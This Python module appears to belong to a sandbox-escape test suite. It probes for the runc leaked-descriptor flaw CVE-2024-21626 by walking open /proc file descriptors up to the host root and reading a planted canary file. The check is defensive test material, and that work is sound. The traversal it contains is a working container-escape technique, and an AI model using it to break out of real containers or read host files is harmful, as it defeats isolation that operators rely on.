"""Climb out by a folder that the runtime left open (CVE-2024-21626, leaky vessels)."""

from __future__ import annotations

import os
from typing import Any

from sandboxd.inside.escapes._kernel import other_processes, read_text

TITLE = "climb out by a leaked folder descriptor"
JUDGE = "token"
EXPECTED = {"runc": "none is left open", "runsc": "none is left open"}

_UP = "/.." * 12


def attempt(facts: dict[str, Any]) -> dict[str, Any]:
    for pid in [os.getpid(), *sorted(other_processes())[:200]]:
        try:
            numbers = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for number in numbers[:100]:
            text = read_text("/proc/{}/fd/{}{}{}".format(pid, number, _UP, facts["canary"]))
            if text:
                return {"token": text, "detail": f"descriptor {number} of process {pid}"}
    raise FileNotFoundError("no open folder leads out")
